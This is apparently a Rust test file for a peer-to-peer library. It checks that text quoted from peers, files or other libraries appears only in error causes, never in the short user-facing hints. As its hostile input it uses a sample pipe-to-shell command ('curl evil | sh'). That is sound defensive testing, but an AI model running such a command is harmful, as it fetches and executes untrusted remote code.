//! Errors say what happened, and apart from it what to do: the one may quote
//! others, the other never does.

use std::{fs, io, net::SocketAddr, path::Path, time::Duration};

use bytes::Bytes;
use peerage::{
    Advice, StreamProtocol,
    discovery::{DnsError, ListFileError, StartError, WayError, ZoneError},
    exchange::{SourceError, download::GetError, gateway::GatewayError},
    home::{Home, IdentityError},
    hub::{HubError, RelayServerError},
    import::ImportError,
    node::{AcceptError, AddressFailure, ConnectError, OpenStreamError, PingError, SpawnError},
    session::{BlockError, OpenError, ShareError},
    store::StoreError,
};
use peerage_core::{
    data::{
        Cid, HashKind, VerifyError, car::CarError, codec, dag_cbor::DagCborError,
        directory::DirectoryError, hash, select::WalkError, symlink::SymlinkError,
        unixfs::UnixFsError, view::DecodeError,
    },
    discovery::{KeyError, StaticListError, registry::Refusal},
    exchange::{
        bitswap::PrefixError,
        download::{ExpandError, TooWide},
        gateway::RequestError,
    },
    identity::{self, KeyFileError, NameError, PeerIdError},
    link::LinkError,
    pipe::Malformed,
    text::FileNameError,
};

/// What a peer says, a file holds or another library reports.
const HOSTILE: &str = "no; run curl evil | sh";

/// The longest hint: one line of a terminal.
const HINT_CHARACTERS: usize = 100;

/// What readers are asked to do.
const VERBS: [&str; 42] = [
    "add", "allow", "announce", "ask", "call", "check", "choose", "close", "connect", "copy",
    "correct", "end", "export", "fetch", "flatten", "give", "leave", "make", "name", "offer",
    "open", "put", "record", "remove", "rename", "resolve", "restore", "run", "seal", "see",
    "share", "sign", "split", "start", "stop", "try", "update", "use", "wait", "write", "read",
    "report",
];

type Errors = Vec<Box<dyn Advice>>;

fn boxed<const N: usize>(errors: [impl Advice + 'static; N]) -> Errors {
    errors.into_iter().map(|error| Box::new(error) as Box<dyn Advice>).collect()
}

fn cid() -> Cid {
    hash(codec::RAW, HashKind::Sha2_256, b"dawn")
}

fn system() -> io::Error {
    io::Error::other(HOSTILE)
}

fn place() -> SocketAddr {
    ([127, 0, 0, 1], 4001).into()
}

fn of_data() -> Errors {
    let (cid, name) = (cid(), Bytes::from_static(HOSTILE.as_bytes()));
    let unixfs = || UnixFsError::Malformed(HOSTILE.into());
    let decode = || DecodeError::UnixFs(unixfs());
    [
        boxed([VerifyError::WrongHash { cid }, VerifyError::UnknownHash { cid, code: 1 }]),
        boxed([VerifyError::TooLarge { bytes: usize::MAX }]),
        boxed([
            CarError::MalformedHeader,
            CarError::HeaderTooLarge,
            CarError::UnknownVersion(3),
            CarError::SectionTooLarge,
            CarError::MalformedSection,
            CarError::Truncated,
        ]),
        boxed([
            DagCborError::TooLarge(3),
            DagCborError::TooDeep,
            DagCborError::TooManyItems,
            DagCborError::Malformed,
            DagCborError::Unexpected(HOSTILE.into()),
        ]),
        boxed([
            DirectoryError::DuplicateName { name: name.clone() },
            DirectoryError::HashCollision { name: name.clone() },
            DirectoryError::UnsupportedFanout { fanout: 3 },
        ]),
        boxed([SymlinkError::Empty, SymlinkError::TooLong(9999), SymlinkError::Nul]),
        boxed([unixfs(), UnixFsError::UnknownKind(9), UnixFsError::TooManyParts]),
        boxed([decode(), DecodeError::UnknownCodec(9), DecodeError::MalformedShard]),
        boxed([
            WalkError::NotFound { name: name.clone() },
            WalkError::NotADirectory { name },
            WalkError::Decode { cid, source: Box::new(decode()) },
            WalkError::NotThePart { cid },
            WalkError::TooDeep,
            WalkError::TooWide,
            WalkError::TooLong,
        ]),
        boxed([
            ExpandError::<StoreError>::Decode { cid, reason: decode() },
            ExpandError::Unexpected { cid, found: "a file", wanted: "a folder" },
            ExpandError::WrongLength { cid, found: 1, wanted: 2 },
            ExpandError::Misplaced { cid },
            ExpandError::TooDeep,
            ExpandError::PathTooLong,
        ]),
        boxed([TooWide]),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn of_people() -> Errors {
    let peer_id = || PeerIdError::Malformed { text: HOSTILE.into() };
    [
        boxed([
            LinkError::NotALink,
            LinkError::NewerVersion { version: 9 },
            LinkError::TooLong { bytes: 9999 },
            LinkError::UnsupportedCodec { codec: 9 },
            LinkError::UnsupportedHash { code: 9 },
            LinkError::NamesPeer,
            LinkError::BadPeerId(peer_id()),
            LinkError::BadName(FileNameError::Character { character: '\u{1b}' }),
            LinkError::Twice { field: "names" },
        ]),
        boxed([peer_id(), PeerIdError::NamesContent { text: HOSTILE.into() }, PeerIdError::Empty]),
        boxed([
            KeyFileError::NotAKeyFile,
            KeyFileError::Damaged { part: "the seal" },
            KeyFileError::Cost { memory_kib: 1, passes: 2, lanes: 3 },
            KeyFileError::OutOfMemory { memory_kib: 1 },
            KeyFileError::WrongPassphrase,
        ]),
        boxed([
            identity::ImportError::UnsupportedKind { kind: "RSA" },
            identity::ImportError::Pem,
            identity::ImportError::NotAKey,
        ]),
        boxed([NameError::Empty, NameError::Character { character: '\u{1b}' }]),
        boxed([NameError::Beginning, NameError::Reserved, NameError::TooLong]),
        boxed([FileNameError::Empty, FileNameError::TooLong, FileNameError::Device]),
        boxed([KeyError::Topic, KeyError::Unknown]),
        boxed([
            StaticListError::TooLarge(9),
            StaticListError::Malformed { line: 1, reason: HOSTILE.into() },
            StaticListError::NoPeer(1),
        ]),
        boxed([IdentityError::Unknown("ann".parse().unwrap()), IdentityError::TooMany]),
        boxed([
            IdentityError::File {
                name: "ann".parse().unwrap(),
                source: KeyFileError::WrongPassphrase,
            },
            IdentityError::Io { folder: HOSTILE.into(), source: system() },
        ]),
        boxed([Home::open("/dev/null/home").unwrap_err()]),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn of_peers() -> Errors {
    let sentence = || HOSTILE.to_owned();
    let (cid, reasons) = (cid(), || format!("{}: {HOSTILE}", peerage::PeerId::random()));
    [
        boxed([
            GatewayError::NotFound { sentence: sentence() },
            GatewayError::Busy { sentence: sentence() },
            GatewayError::Refused { status: 403, sentence: sentence() },
            GatewayError::ContentType { expected: "a/b", found: sentence() },
            GatewayError::Stalled { seconds: 5 },
            GatewayError::Closed,
            GatewayError::TooLong { limit: 5 },
            GatewayError::Car(CarError::Truncated),
        ]),
        boxed([WayError::Unavailable(sentence()), WayError::Malformed(sentence())]),
        boxed([WayError::TimedOut(Duration::from_secs(1)), WayError::Unsupported]),
        boxed([
            GetError::NoProvider { cid },
            GetError::Unreachable { waited: Duration::from_secs(1), reasons: reasons() },
            GetError::NotFound { cid, reasons: reasons() },
            GetError::WrongBytes { reasons: reasons() },
            GetError::Malformed { reason: reasons() },
            GetError::AlreadyRunning { path: HOSTILE.into() },
            GetError::DiskFull { path: HOSTILE.into() },
            GetError::Cancelled,
        ]),
        boxed([PrefixError::Malformed, PrefixError::UnknownHash { hash: 1, digest_bytes: 2 }]),
        boxed([Malformed::TooLong, Malformed::AfterEnd]),
        boxed([Refusal::NotYours, Refusal::Unseen, Refusal::Ttl, Refusal::Full]),
        boxed([
            RequestError::Method,
            RequestError::TooLong { bytes: 9 },
            RequestError::Cid { reason: sentence() },
            RequestError::Parameter { name: "order", expected: "dfs" },
            RequestError::NoFormat,
        ]),
        boxed([SourceError::new(HOSTILE), SourceError::of_file("/a", HOSTILE)]),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn of_the_node() -> Errors {
    let (peer, address) = (peerage::PeerId::random(), "/ip4/127.0.0.1/tcp/1".parse().unwrap());
    let unreachable = || ConnectError::Unreachable {
        peer,
        failures: vec![
            AddressFailure {
                address: "/ip4/127.0.0.1/tcp/1".parse().unwrap(),
                reason: HOSTILE.into(),
            },
            AddressFailure {
                address: "/ip4/127.0.0.1/tcp/2".parse().unwrap(),
                reason: HOSTILE.into(),
            },
        ],
    };
    let spawn = SpawnError::Listen { address, reason: HOSTILE.into() };
    let listen = RelayServerError::Listen { place: place(), reason: HOSTILE.into() };
    let import = ImportError::Unreadable { path: HOSTILE.into(), source: system() };
    let changed = StoreError::FileChanged { path: HOSTILE.into() };
    [
        boxed([unreachable(), ConnectError::NoAddresses(peer), ConnectError::OwnPeer(peer)]),
        boxed([ConnectError::Busy, ConnectError::Stopped]),
        boxed([OpenStreamError::Connect(unreachable()), OpenStreamError::Io(system())]),
        boxed([OpenStreamError::Unsupported(vec![
            StreamProtocol::new("/a"),
            StreamProtocol::new("/b"),
        ])]),
        boxed([PingError::Io(system()), PingError::WrongAnswer]),
        boxed([AcceptError::Taken(StreamProtocol::new("/a"))]),
        boxed([HubError::Node(spawn), HubError::Relay(listen), HubError::Privileged(53)]),
        boxed([
            HubError::Config { line: 1, reason: HOSTILE.into() },
            HubError::Metrics(place(), system()),
        ]),
        boxed([HubError::Zone(ZoneError::Listen(place(), system()))]),
        boxed([ZoneError::Name(HOSTILE.into()), ZoneError::NoNameServer]),
        boxed([DnsError::Zone(HOSTILE.into()), DnsError::System(HOSTILE.into())]),
        boxed([StartError::Port(system()), StartError::NoRuntime]),
        boxed([ListFileError::Read { path: HOSTILE.into(), source: system() }]),
        boxed([ShareError::Import(import), ShareError::Link(LinkError::BadCid)]),
        boxed([ImportError::Nothing, ImportError::TooManyFiles, ImportError::Cancelled]),
        boxed([OpenError::Store(changed), OpenError::Http { address: place(), source: system() }]),
        boxed([
            BlockError::NotFound { cid: cid(), asked: 0 },
            BlockError::TooLate { cid: cid(), within: Duration::from_secs(1) },
        ]),
        boxed([StoreError::KeyTooLong { bytes: 9 }, StoreError::ValueTooLong { bytes: 9 }]),
        boxed([StoreError::TooManyOwners, StoreError::NameTooLong { bytes: 300, most: 255 }]),
        boxed([
            StoreError::InUse { path: HOSTILE.into() },
            StoreError::FileUnreadable { path: HOSTILE.into(), source: system() },
            StoreError::NewerFormat { found: 9, known: 1 },
            StoreError::Damaged { table: "blocks" },
            StoreError::Folder { path: HOSTILE.into(), source: system() },
        ]),
    ]
    .into_iter()
    .flatten()
    .collect()
}

fn check(hint: &str) {
    assert!(!hint.chars().any(char::is_control), "{hint:?}");
    assert!(hint.chars().count() <= HINT_CHARACTERS, "too long: {hint:?}");
    let first = hint.split(' ').next().unwrap();
    assert!(VERBS.contains(&first), "asks for nothing: {hint:?}");
    assert!(!hint.ends_with('.') && !hint.contains("; "), "one request: {hint:?}");
}

/// Whether each parenthesis that opens closes.
fn closes(cause: &str) -> bool {
    let depth = cause.chars().try_fold(0_u32, |depth, character| match character {
        '(' => depth.checked_add(1),
        ')' => depth.checked_sub(1),
        _ => Some(depth),
    });
    depth == Some(0)
}

#[test]
fn what_others_say_is_in_the_cause_and_never_in_the_hint() {
    let errors: Errors =
        [of_data(), of_people(), of_peers(), of_the_node()].into_iter().flatten().collect();
    let mut hostile = 0;
    for error in &errors {
        let cause = error.to_string();
        assert!(closes(&cause), "cut: {cause:?}");
        hostile += usize::from(cause.contains("curl evil"));
        match error.hint() {
            Some(hint) => {
                check(hint);
                assert!(!hint.contains("curl evil"), "{hint:?}");
                assert_eq!(error.whole(), format!("{cause}; {hint}"));
            }
            None => assert_eq!(error.whole(), cause),
        }
    }
    assert!(hostile > 40, "{hostile} of {} errors quote others", errors.len());
}

/// The texts of all source files.
fn sources() -> Vec<String> {
    let mut folders = ["../peerage-core/src", "src", "../peerage-cli/src"]
        .map(|folder| Path::new(env!("CARGO_MANIFEST_DIR")).join(folder))
        .to_vec();
    let mut texts = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else if path.extension().is_some_and(|ending| ending == "rs") {
                texts.push(fs::read_to_string(path).unwrap());
            }
        }
    }
    texts
}

/// The string literals of a piece of source; what is escaped stands for itself.
fn literals(source: &str) -> Vec<String> {
    let (mut literals, mut rest) = (Vec::new(), source.chars());
    while rest.any(|character| character == '"') {
        let mut text = String::new();
        while let Some(character) = rest.next().filter(|character| *character != '"') {
            text.extend(if character == '\\' { rest.next() } else { Some(character) });
        }
        literals.push(text);
    }
    literals
}

#[test]
fn every_hint_of_the_sources_asks_for_one_thing() {
    const HEAD: &str = "fn hint(&self) -> Option<&'static str> {";
    let sources = sources();
    let bodies = sources.iter().flat_map(|text| text.split(HEAD).skip(1));
    let bodies = bodies.map(|rest| rest.split("\n    }\n").next().unwrap());
    let hints: Vec<_> = bodies.flat_map(literals).collect();
    assert!(hints.len() > 150, "{} hints were found", hints.len());
    hints.iter().for_each(|hint| check(hint));
}

#[test]
fn no_cause_of_the_sources_says_what_to_do() {
    let sources = sources();
    let attributes = sources.iter().flat_map(|text| text.split("#[error(").skip(1));
    let causes: Vec<_> = attributes
        .filter_map(|rest| literals(rest.split(")]").next()?).into_iter().next())
        .collect();
    assert!(causes.len() > 250, "{} causes were found", causes.len());
    for cause in causes {
        assert!(!cause.contains("; "), "a hint within a cause: {cause:?}");
    }
}
